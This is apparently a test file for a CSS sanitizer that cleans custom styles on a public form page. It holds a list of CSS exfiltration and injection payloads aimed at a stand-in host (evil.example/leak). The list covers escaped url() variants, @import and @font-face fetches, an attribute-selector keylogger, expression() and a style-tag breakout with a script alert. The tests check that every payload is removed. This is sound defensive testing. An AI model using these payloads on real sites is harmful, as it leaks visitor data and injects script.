import { describe, expect, it } from 'vitest';
import { sanitizeCustomCss } from './custom-css';
import * as csstree from 'css-tree';

const clean = (value: string) => sanitizeCustomCss({ value, isEncoded: false });

describe('custom CSS on the public page', () => {
  it('keeps ordinary styling', () => {
    expect(clean('.fb-title { color: #c00; font-size: 2rem }')).toBe('.fb-title{color:#c00;font-size:2rem}');
    expect(clean('@media (max-width: 600px) { .fb-form { padding: 0 } }')).toContain('@media');
    expect(
      clean('.a { width: calc(100% - var(--gap, 2px)); background: linear-gradient(#fff, rgb(0 0 0 / 50%)) }'),
    ).toBe('.a{width:calc(100% - var(--gap, 2px));background:linear-gradient(#fff,rgb(0 0 0/50%))}');
    expect(
      clean('.a { --brand: #c00; color: var(--brand) } .b:not(.c):has(> input:checked) { transform: translateX(2px) }'),
    ).toBe('.a{--brand: #c00;color:var(--brand)}.b:not(.c):has(>input:checked){transform:translateX(2px)}');
    expect(clean('@keyframes pulse { from { opacity: 1 } to { opacity: .5 } }')).toContain('@keyframes pulse');
  });

  it('drops @import and other fetching at-rules', () => {
    expect(clean('@import url("https://evil.example/x.css"); .a{color:red}')).toBe('.a{color:red}');
    expect(clean('@import "https://evil.example/x.css"; .a{color:red}')).toBe('.a{color:red}');
    expect(clean('@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a{color:red}')).toBe(
      '.a{color:red}',
    );
  });

  it('drops external url() but keeps data: urls', () => {
    expect(clean('.a { background: url(https://evil.example/p.png); color: red }')).toBe('.a{color:red}');
    expect(clean('.a { background: url(//evil.example/p.png) }')).toBe('.a{}');
    expect(clean('.a { background-image: url("data:image/png;base64,AAAA") }')).toContain('data:image/png');
    expect(clean('.a { background-image: url(data:image/png;base64,AAAA) }')).toContain('data:image/png');
    expect(clean('.a { background: image-set("https://evil.example/p.png" 1x) }')).toBe('.a{}');
  });

  it('drops rules that select on attribute values (a keylogger in CSS)', () => {
    expect(clean('input[value^="a"] { background: red } .b { color: blue }')).toBe('.b{color:blue}');
    expect(clean('input[v\\61lue^="a"] { background: red } .b { color: blue }')).toBe('.b{color:blue}');
    expect(clean('input[required] { border-color: red }')).toBe('input[required]{border-color:red}');
  });

  it('drops script-carrying properties and cannot close the style element', () => {
    expect(clean('.a { behavior: url(x.htc); -moz-binding: url(x.xml); color: red }')).toBe('.a{color:red}');
    expect(clean('.a { color: red } </style><script>alert(1)</script>')).not.toContain('</style>');
  });

  it('decodes base64 when isEncoded is set, and ignores garbage', () => {
    expect(sanitizeCustomCss({ value: Buffer.from('.a{color:red}').toString('base64'), isEncoded: true })).toBe(
      '.a{color:red}',
    );
    expect(sanitizeCustomCss(undefined)).toBe('');
  });
});

// Each of these reached a third party from the public page in Chromium.
const EVIL = 'https://evil.example/leak';
const payloads: [string, string][] = [
  ['a custom property holding url()', `--x: url(${EVIL}); background: var(--x)`],
  ['a quoted url() in a custom property', `--x: url("${EVIL}")`],
  ['a var() fallback', `background: var(--nothing, url(${EVIL}))`],
  ['a nested var() fallback', `background: var(--a, var(--b, url(${EVIL})))`],
  ['u\\72l( (hex escape)', `background: u\\72l(${EVIL})`],
  ['ur\\l( (plain escape)', `background: ur\\l(${EVIL})`],
  ['\\75 rl( (hex escape ended by a space)', `background: \\75 rl(${EVIL})`],
  ['\\000075rl( (six hex digits)', `background: \\000075rl(${EVIL})`],
  ['URL( in capitals', `background: URL(${EVIL})`],
  ['url/**/( with a comment', `background: url/**/(${EVIL})`],
  ['an escaped url in a custom property', `--x: u\\72l(${EVIL})`],
  ['image-set(', `background: image-set("${EVIL}" 1x)`],
  ['-webkit-image-set(', `background: -webkit-image-set(url(${EVIL}) 1x)`],
  ['an escaped image-set(', `background: im\\61ge-set("${EVIL}" 1x)`],
  ['image(', `background: image("${EVIL}")`],
  ['src(', `background: src("${EVIL}")`],
  ['cross-fade(', `background: cross-fade(url(${EVIL}), red 50%)`],
  ['expression(', 'width: expression(alert(1))'],
  ['an escaped expression(', 'width: expr\\65ssion(alert(1))'],
  ['attr() of a visitor-typed value', 'background: attr(value type(<url>))'],
  ['a url with an escaped scheme', `background: url(h\\74tps://evil.example/leak)`],
  ['url() of a string with an escaped data', `background: url("d\\61ta:x"), url(${EVIL})`],
  ['a bad url', `background: url(${EVIL} x)`],
  ['list-style-image', `list-style-image: url(${EVIL})`],
  ['cursor', `cursor: url(${EVIL}), auto`],
  ['border-image', `border-image: url(${EVIL}) 30`],
  ['mask', `-webkit-mask-image: url(${EVIL})`],
  ['an escaped behavior property', 'b\\65havior: url(x.htc)'],
  ['an escaped -moz-binding property', '-moz-b\\69nding: url(x.xml)'],
];

describe('custom CSS cannot reach a third party', () => {
  it.each(payloads)('drops %s', (_name, declaration) => {
    const out = clean(`.fb-option:has(input:checked) { ${declaration}; color: red }`);
    expect(out).toMatch(/^\.fb-option:has\(input:checked\)\{.*color:red\}$/);
    // Read as the browser reads it: nothing left that names a resource or runs script.
    expect(csstree.ident.decode(out)).not.toMatch(/evil|url|image|src|expression|attr|binding|behavior|cross-fade/i);
  });

  it.each([
    ['@import with an escaped name', `@\\69mport "${EVIL}";`],
    ['@import url()', `@import url(${EVIL});`],
    ['@font-face with src', `@font-face { font-family: x; src: url(${EVIL}) }`],
    ['@font-face with an escaped name', `@font-f\\61ce { font-family: x; src: local(x) }`],
    ['@namespace', `@namespace url(${EVIL});`],
    [
      '@property with a url initial value',
      `@property --x { syntax: '<url>'; inherits: false; initial-value: url(${EVIL}) }`,
    ],
    ['@document', `@-moz-document url-prefix() { .a { color: red } }`],
  ])('drops %s', (_name, rule) => {
    expect(clean(`${rule} .b{color:blue}`)).toBe('.b{color:blue}');
  });

  it('drops fetching values inside @media, @supports and nested rules', () => {
    expect(clean(`@media screen { .a { background: u\\72l(${EVIL}); color: red } }`)).toBe(
      '@media screen{.a{color:red}}',
    );
    expect(clean(`@supports (display: grid) { .a { --x: url(${EVIL}) } }`)).toBe('@supports (display:grid){.a{}}');
    expect(clean(`.a { color: red; &:hover { background: url(${EVIL}) } }`)).not.toContain('evil');
  });

  it('drops text css-tree could not read, where a browser might find a declaration', () => {
    const out = clean(`.a { color: red; }} .b{background:url(${EVIL})} garbage{ ; .c{background:u\\72l(${EVIL})}`);
    expect(out).not.toContain('evil');
    expect(clean(`.a { color: red; ;; background:url(${EVIL}) }`)).not.toContain('evil');
  });
});
